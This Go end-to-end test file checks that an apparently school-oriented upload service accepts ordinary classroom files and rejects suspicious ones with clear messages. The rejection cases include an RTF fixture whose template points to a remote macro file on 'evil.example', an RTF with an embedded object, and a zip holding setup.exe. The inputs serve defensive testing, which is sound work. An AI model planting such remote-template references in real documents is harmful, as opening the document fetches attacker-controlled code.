package e2e

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"hash/crc32"
	"io"
	"testing"

	"github.com/stretchr/testify/require"
)

// packed makes a zip of names and contents in their order, each deflated unless its
// name begins with "stored:".
func packed(t *testing.T, pairs ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i < len(pairs); i += 2 {
		header := &zip.FileHeader{Name: pairs[i], Method: zip.Deflate}
		if name, stored := bytes.CutPrefix([]byte(pairs[i]), []byte("stored:")); stored {
			header.Name, header.Method = string(name), zip.Store
		}
		w, err := z.CreateHeader(header)
		require.NoError(t, err)
		_, err = io.WriteString(w, pairs[i+1])
		require.NoError(t, err)
	}
	require.NoError(t, z.Close())
	return b.Bytes()
}

const (
	office    = "application/vnd.openxmlformats-officedocument."
	odf       = "application/vnd.oasis.opendocument."
	manifest  = `<?xml version="1.0"?><manifest xmlns="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>`
	relations = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>`
	matroska  = "\x1a\x45\xdf\xa3\xa3\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08\x42\x82\x88matroska\x42\x87\x81\x04\x42\x85\x81\x02\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff"
	smallJPEG = "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAj/wAALCAAIAAgBAREA/8QAHwAAAQUBAQ" +
		"EBAQEAAAAAAAAAAAECAwQFBgcICQoL/8QAFRABAQAAAAAAAAAAAAAAAAAAAAj/2gAIAQEAAD8AX//Z"
	avifOfMif1 = "AAAAHGZ0eXBhdmlmAAAAAGF2aWZtaWYxbWlhZgAAAOptZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAAAA5waXRtAAAAAAABAAAAImlsb2MAAAAAREAAAQABAAAAAAEOAA" +
		"EAAAAAAAAAIQAAACNpaW5mAAAAAAABAAAAFWluZmUCAAAAAAEAAGF2MDEAAAAAamlwcnAAAABLaXBjbwAAABNjb2xybmNseAACAAIABoAAAAAMYXYxQ4EADAAAAAAUaXNwZQAAAAAAAABAAAAAMAAA" +
		"ABBwaXhpAAAAAAMICAgAAAAXaXBtYQAAAAAAAAABAAEEgYIDhAAAACltZGF0EgAKCRgVf72CBAQNCDISGwAaaaaEALTRVn/oXq3jtkDg"
)

// contentTypes is the description of a document with one main part.
func contentTypes(encoding, more, part, kind string) string {
	return `<?xml version="1.0" encoding="` + encoding + `"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
		`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` + more +
		`<Override PartName="` + part + `" ContentType="` + office + kind + `.main+xml"/></Types>`
}

func decoded(t *testing.T, text string) []byte {
	t.Helper()
	b, err := base64.StdEncoding.DecodeString(text)
	require.NoError(t, err)
	return b
}

// bitmap is a white picture of a drawing program.
func bitmap(width, height int) []byte {
	n := width * height * 3
	b := append([]byte("BM"), binary.LittleEndian.AppendUint32(nil, uint32(54+n))...)
	b = append(b, 0, 0, 0, 0, 54, 0, 0, 0, 40, 0, 0, 0)
	b = binary.LittleEndian.AppendUint32(b, uint32(width))
	b = binary.LittleEndian.AppendUint32(b, uint32(height))
	b = append(b, 1, 0, 24, 0, 0, 0, 0, 0)
	b = binary.LittleEndian.AppendUint32(b, uint32(n))
	b = append(b, make([]byte, 16)...)
	return append(b, bytes.Repeat([]byte{0xff}, n)...)
}

// animated is a PNG with one frame of an animation.
func animated(t *testing.T) []byte {
	t.Helper()
	var pixels bytes.Buffer
	z := zlib.NewWriter(&pixels)
	_, err := z.Write(bytes.Repeat(append([]byte{0}, bytes.Repeat([]byte{16}, 192)...), 64))
	require.NoError(t, err)
	require.NoError(t, z.Close())
	b := []byte("\x89PNG\r\n\x1a\n")
	for _, chunk := range []struct{ kind, data string }{
		{"IHDR", "\x00\x00\x00\x40\x00\x00\x00\x40\x08\x02\x00\x00\x00"}, {"acTL", "\x00\x00\x00\x01\x00\x00\x00\x00"},
		{"fcTL", "\x00\x00\x00\x00\x00\x00\x00\x40\x00\x00\x00\x40\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x0a\x00\x00"},
		{"IDAT", pixels.String()}, {"IEND", ""},
	} {
		b = binary.BigEndian.AppendUint32(b, uint32(len(chunk.data)))
		body := chunk.kind + chunk.data
		b = binary.BigEndian.AppendUint32(append(b, body...), crc32.ChecksumIEEE([]byte(body)))
	}
	return b
}

// TestFilesThatPeopleReported sends what users of other systems reported as refused
// or lost, each an ordinary thing in a school. The names of the cases say where.
func TestFilesThatPeopleReported(t *testing.T) {
	t.Parallel()
	s := newSchool(t)
	sheet := contentTypes("UTF-8", `<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>`, "/xl/workbook.xml", "spreadsheetml.sheet")
	show := packed(t, "[Content_Types].xml", contentTypes("UTF-8", "", "/ppt/presentation.xml", "presentationml.slideshow"), "_rels/.rels", relations, "ppt/presentation.xml", "<p/>")
	word := packed(t, "[Content_Types].xml", contentTypes("UTF-8", "", "/word/document.xml", "wordprocessingml.document"), "_rels/.rels", relations, "word/document.xml", "<d/>")
	slides := packed(t, "[Content_Types].xml", contentTypes("UTF-8", "", "/ppt/presentation.xml", "presentationml.presentation"), "_rels/.rels", relations,
		"ppt/presentation.xml", "<p/>", "stored:ppt/embeddings/Microsoft_Word_Document.docx", string(word))
	mif1 := decoded(t, avifOfMif1)
	copy(mif1[8:], "mif1")
	for name, c := range map[string]struct {
		file     string
		content  []byte
		mimeType string
		preview  string
	}{
		"SheetJS#1501":                 {"noten.xlsx", packed(t, "[Content_Types].xml", sheet, "_rels/.rels", relations, "xl/workbook.xml", "<workbook/>"), office + "spreadsheetml.sheet", ""},
		"datatracker#4453, dictionary": {"a.txt", []byte("execute (v.) = to carry out"), "text/plain", ""},
		"datatracker#4453, essay":      {"b.txt", []byte("JavaScript: an introduction"), "text/plain", ""},
		"datatracker#4453, notes":      {"c.txt", []byte("Param (short for parameter) is a value."), "text/plain", ""},
		"datatracker#4453, poem":       {"d.txt", []byte("Echo on\n\nThe hills reply.\n"), "text/plain", ""},
		"datatracker#4453, table":      {"e.csv", []byte("execute (v.);carry out"), "text/csv", ""},
		"libheif#111":                  {"IMG_3630.HEIC", decoded(t, smallJPEG), "image/jpeg", "ready"},
		"mimetype#72, ppt":             {"ppt.zip", packed(t, "ppt/", "", "ppt/lesson1.txt", "Slide 1"), "application/zip", ""},
		"mimetype#72, word":            {"word.zip", packed(t, "word/", "", "word/lesson1.txt", "Slide 1"), "application/zip", ""},
		"mimetype#72, xl":              {"xl.zip", packed(t, "xl/", "", "xl/lesson1.txt", "Slide 1"), "application/zip", ""},
		"dataverse#7854":               {"art.zip", packed(t, "canvas.bmp", string(bitmap(1920, 1080))), "application/zip", ""},
		"OpenDocument.core#152":        {"a.odt", packed(t, "content.xml", "<c/>", "META-INF/manifest.xml", manifest, "mimetype", odf+"text"), odf + "text", ""},
		"blob-mimes#11":                {"show.ppsx", show, office + "presentationml.slideshow", ""},
		"blob-mimes#11, renamed":       {"show.pptx", show, office + "presentationml.slideshow", ""},
		"vacademy#2216":                {"game.sb3", packed(t, "project.json", "x"), "application/x.scratch.sb3", ""},
		"ILIAS#3005":                   {"triangle.ggb", packed(t, "geogebra.xml", "x"), "application/vnd.geogebra.file", ""},
		"Rocket.Chat#16594":            {"talk.key", packed(t, "Index/Document.iwa", "x"), "application/vnd.apple.keynote", ""},
		"ILIAS#1045":                   {"a.ipynb", []byte(`{"cells":[],"metadata":{},"nbformat":4,"nbformat_minor":5}`), "application/x-ipynb+json", ""},
		"ILIAS#1045, json":             {"a.json", []byte(`{"cells":[]}`), "application/json", ""},
		"mimemagic#67":                 {"a.csv", []byte("MZ-Klasse;\xdcbung;M\xfcller\r\n1;2;3\r\n"), "text/csv", ""},
		"mimemagic#67, CWS":            {"b.txt", []byte("CWS Aufgabe f\xfcr heute\r\n"), "text/plain", ""},
		"woocommerce#62236":            {"w.csv", []byte("Wort,Trennung\nDonau\x1fdampf,1\n"), "text/csv", ""},
		"mimesniff#69":                 {"p.txt", []byte("<p>So beginnt ein Absatz.</p>"), "text/plain", ""},
		"mimesniff#69, xml":            {"x.txt", []byte(`<?xml version="1.0"?><note/>`), "text/plain", ""},
		"pocketbase#1619":              {"f.md", []byte("<style>h1 { color: red }</style>\n\n# Slide\n"), "text/markdown", ""},
		"pocketbase#1619, video":       {"v.md", []byte("<iframe src=\"https://example.org\"></iframe>\n\n# Video\n"), "text/markdown", ""},
		"mimetype#192":                 {"index.html", []byte("Hallo <b>Welt</b>! Meine erste Seite."), "text/html", ""},
		"mimetype#192, drawing":        {"logo.html", []byte(`<svg xmlns="http://www.w3.org/2000/svg"/><p>Logo</p>`), "text/html", ""},
		"magika#1326":                  {"f.pptx", slides, office + "presentationml.presentation", ""},
		"uploadcare#513":               {"a.webm", []byte(matroska), "video/matroska", ""},
		"openbooks#192":                {"book.epub", packed(t, "mimetype", "application/epub+zip"), "application/epub+zip", ""},
		"OpenCast#445, ics":            {"a.ics", []byte("x"), "text/calendar", ""},
		"OpenCast#445, vtt":            {"a.vtt", []byte("x"), "text/vtt", ""},
		"OpenCast#445, srt":            {"a.srt", []byte("x"), "application/x-subrip", ""},
		"OpenCast#445, tsv":            {"a.tsv", []byte("x"), "text/tab-separated-values", ""},
		"OpenCast#445, tex":            {"a.tex", []byte("x"), "application/x-tex", ""},
		"scinote#7":                    {"a.py", []byte("print('Hallo')\n"), "text/x-python", ""},
		"scinote#7, Java":              {"A.java", []byte("class A {}\n"), "text/x-java-source", ""},
		"mimetype#639":                 {"project.zip", packed(t, "META-INF/MANIFEST.MF", "Manifest-Version: 1.0", "src/Hallo.java", "class Hallo {}"), "application/zip", ""},
		"pillow-avif#5":                {"b.avif", mif1, "image/avif", "ready"},
		"libarchive#1055":              {"a.docx", packed(t, "[Content_Types].xml", contentTypes("utf8", "", "/word/document.xml", "wordprocessingml.document"), "_rels/.rels", relations, "word/document.xml", "<d/>"), office + "wordprocessingml.document", ""},
		"fxhash#405":                   {"s.png", animated(t), "image/png", "ready"},
		"a letter in RTF":              {"letter.rtf", []byte(`{\rtf1\ansi Dear parents\par}`), "application/rtf", ""},
		"a bitmap":                     {"canvas.bmp", bitmap(320, 200), "image/bmp", "ready"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := settled(t, s.Teacher, mustUpload(t, s.Teacher, c.file, c.content))
			require.Equal(t, "published", f.Status, "%s %s", f.StatusReason, f.StatusText)
			require.Equal(t, c.mimeType, f.MimeType)
			if c.preview != "" {
				require.Equal(t, c.preview, f.Preview)
			}
		})
	}
}

// TestRefusalsSayWhatWasFound holds the sentences of refused files against what a
// person needs to know.
func TestRefusalsSayWhatWasFound(t *testing.T) {
	t.Parallel()
	s := newSchool(t)
	for name, c := range map[string]struct {
		file    string
		content []byte
		reason  string
		says    []string
	}{
		"a page as PDF":         {"work.pdf", []byte("<html>Please sign in</html>"), "content_mismatch", []string{"PDF document", "HTML page"}},
		"a zip as Word":         {"work.docx", packed(t, "a.txt", "x"), "not_that_document", []string{"Word document", "zip archive"}},
		"a program in a zip":    {"work.zip", packed(t, "setup.exe", "x"), "executable", []string{"program"}},
		"a picture as text":     {"work.txt", photo(t), "content_mismatch", []string{"text", "JPEG image"}},
		"a renamed zip":         {"work.sb3", packed(t, "a.txt", "x"), "not_that_document", []string{"Scratch project"}},
		"an object in RTF":      {"work.rtf", []byte(`{\rtf1{\object\objemb{\*\objdata 0105}}}`), "embedded_object", []string{"embedded"}},
		"a template of the web": {"more.rtf", []byte(`{\rtf1{\*\template http://evil.example/a.dotm}}`), "remote_template", []string{"internet"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := settled(t, s.Teacher, mustUpload(t, s.Teacher, c.file, c.content))
			require.Equal(t, "rejected", f.Status)
			require.Equal(t, c.reason, f.StatusReason)
			for _, word := range c.says {
				require.Contains(t, f.StatusText, word)
			}
		})
	}
}
